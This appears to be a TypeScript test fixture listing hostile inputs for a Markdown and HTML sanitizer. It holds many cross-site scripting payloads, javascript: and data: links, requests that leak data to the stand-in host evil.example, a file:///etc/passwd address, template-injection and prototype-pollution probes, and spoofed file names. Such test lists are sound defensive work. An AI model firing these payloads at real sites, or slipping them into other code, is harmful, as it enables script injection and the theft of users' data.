/**
 * Texts that would run script or reach another site in a page that is careless: many attacks, each in many guises. What
 * they would do is call `pwned`, show a dialog, or ask `evil.example` for something.
 */

const call = "pwned()";
const evil = "https://evil.example/leak?said=secret";

/** HTML that runs script where it is taken for HTML. */
const html: readonly string[] = [
  `<script>${call}</script>`,
  `<script src="${evil}"></script>`,
  `<scr<script>ipt>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<img src="${evil}">`,
  `<img srcset="${evil} 1x">`,
  `<picture><source srcset="${evil}"><img></picture>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><image href="${evil}"/></svg>`,
  `<svg><use href="${evil}#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="${evil}">`,
  `<body onload=${call}>`,
  `<details open ontoggle=${call}>x</details>`,
  `<video><source onerror=${call}></video>`,
  `<video poster="${evil}"></video>`,
  `<audio src="${evil}" autoplay></audio>`,
  `<input autofocus onfocus=${call}>`,
  `<a href="javascript:${call}" autofocus>x</a>`,
  `<form action="javascript:${call}"><button>x</button></form>`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="${evil}">`,
  `<link rel=prefetch href="${evil}">`,
  `<meta http-equiv=refresh content="0;url=${evil}">`,
  `<style>@import "${evil}";</style>`,
  `<div style="background:url(${evil})">x</div>`,
  `<template><img src=x onerror=${call}></template>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<textarea></textarea><img src=x onerror=${call}>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  `"><img src=x onerror=${call}>`,
  `javascript:/*--></title></style></textarea></script><svg/onload='${call}'>`,
];

/** Addresses that must never be followed. */
const addresses: readonly string[] = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `javascript&colon;${call}`,
  `java&#x09;script:${call}`,
  `java\\tscript:${call}`,
  `&#106;avascript:${call}`,
  `\u0001javascript:${call}`,
  ` javascript:${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:image/svg+xml,<svg onload=${call}>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  `blob:null/0`,
  `filesystem:http://x/`,
  `file:///etc/passwd`,
  `view-source:javascript:${call}`,
  `//evil.example/x`,
  `/sessions`,
  `?q=<script>${call}</script>`,
];

/** Ways to put an address into Markdown. */
const linkings: readonly ((address: string) => string)[] = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `![picture](${address})`,
  (address) => `<${address}>`,
  (address) => `[click][ref]\n\n[ref]: ${address}`,
  (address) => `[![picture](${address})](${address})`,
];

/** Ways to hide HTML in Markdown. */
const wrappings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `> ${text}`,
  (text) => `- ${text}`,
  (text) => `**${text}**`,
  (text) => `| a |\n|---|\n| ${text} |`,
  (text) => `# ${text}`,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
];

const others: readonly string[] = [
  `![x](${evil})`,
  `![x][e]\n\n[e]: ${evil}`,
  `[x](${evil} "onmouseover=${call}")`,
  `![x](https://evil.example/a.png"onerror="${call})`,
  "```\n<script>pwned()</script>",
  `\`\`\`"><img src=x onerror=${call}>\nx\n\`\`\``,
  `[a](https://example.com/"onclick="${call})`,
  `<https://example.com/"onclick="${call}>`,
  `https://evil.example/"onmouseover="${call}"`,
  `[\u202Egnp.exe](${evil})`,
  "\u202Etext that runs backwards\u202C and \u200Bhidden\u2060 signs",
  `[x](https://good.example@evil.example/)`,
  "*".repeat(2_000),
  "[".repeat(2_000),
  `${">".repeat(2_000)} deep`,
  `${"- ".repeat(300)}deep`,
  `constructor __proto__ toString {{7*7}} \${7*7} <%= 7*7 %>`,
  "[constructor]: javascript:pwned()\n\n[constructor]",
  "```constructor\nx\n```",
  "```__proto__\nx\n```",
];

export const hostileTexts: readonly string[] = [
  ...html.flatMap((text) => wrappings.map((wrap) => wrap(text))),
  ...addresses.flatMap((address) => linkings.map((link) => link(address))),
  ...others,
];
